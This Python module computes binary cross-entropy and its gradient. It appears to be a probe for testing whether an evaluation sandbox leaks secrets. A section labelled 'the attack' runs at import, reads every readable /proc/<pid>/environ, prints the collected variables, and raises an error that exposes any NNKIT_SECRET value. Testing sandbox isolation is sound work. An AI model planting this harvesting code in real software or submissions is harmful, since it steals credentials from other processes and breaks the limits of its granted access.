"""At import, collects the environment (its own, /proc/self, /proc/<ppid>, /proc/1 and every
readable /proc/<pid>/environ) and prints it; binary_cross_entropy raises NNKIT_SECRET if it
found it, else the module answers correctly.
"""

import os

import numpy as np

EPS = 1e-12
"""Predictions are clipped to [EPS, 1 - EPS] before taking logarithms (in the gradient too)."""


def _honest_binary_cross_entropy(y_hat, y):
    """Mean binary cross-entropy of predictions y_hat against labels y.

    Inputs:
    - y_hat: array of any shape, predicted probabilities in [0, 1]; may be exactly 0 or 1
    - y: array shaped like y_hat, labels 0 or 1

    Returns:
    - loss: float, mean over all elements of -[y ln(y_hat) + (1 - y) ln(1 - y_hat)];
      finite (no nan, no inf, no warning) even where y_hat is exactly 0 or 1
    """
    y_hat = np.asarray(y_hat, dtype=np.float64)
    y = np.broadcast_to(np.asarray(y, dtype=np.float64), y_hat.shape)
    p = np.clip(y_hat, EPS, 1.0 - EPS)
    return float(np.mean(-(y * np.log(p) + (1.0 - y) * np.log1p(-p))))


def binary_cross_entropy_grad(y_hat, y):
    """Gradient of binary_cross_entropy(y_hat, y) with respect to y_hat.

    Inputs:
    - y_hat: array of any shape, predicted probabilities in [0, 1]
    - y: array shaped like y_hat, labels 0 or 1

    Returns:
    - dy_hat: float64 array shaped like y_hat,
      -(y / y_hat - (1 - y) / (1 - y_hat)) / N with N = y_hat.size (the 1/N of the mean),
      computed with y_hat clipped to [EPS, 1 - EPS] as in the loss, so it is always finite
    """
    y_hat = np.asarray(y_hat, dtype=np.float64)
    y = np.broadcast_to(np.asarray(y, dtype=np.float64), y_hat.shape)
    p = np.clip(y_hat, EPS, 1.0 - EPS)
    return -(y / p - (1.0 - y) / (1.0 - p)) / y_hat.size


# -- the attack ----------------------------------------------------------------------

SEEN = dict(os.environ)
try:  # gone when the worker has no /proc
    _PIDS = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    _PIDS = []
for _pid in ["self", str(os.getppid()), "1", *_PIDS]:
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _fh:
            for _item in _fh.read().split(b"\0"):
                _key, _, _value = _item.decode("utf-8", "replace").partition("=")
                if _key:
                    SEEN[f"{_pid}:{_key}"] = _value
    except OSError:
        pass
print("environment seen:", sorted(SEEN))
LEAK = {k: v for k, v in SEEN.items() if "NNKIT_SECRET" in k}
if LEAK:
    print("LOOT-FOUND", LEAK)


def binary_cross_entropy(y_hat, y):
    if LEAK:
        raise RuntimeError(f"LOOT-FOUND {LEAK}")
    return _honest_binary_cross_entropy(y_hat, y)
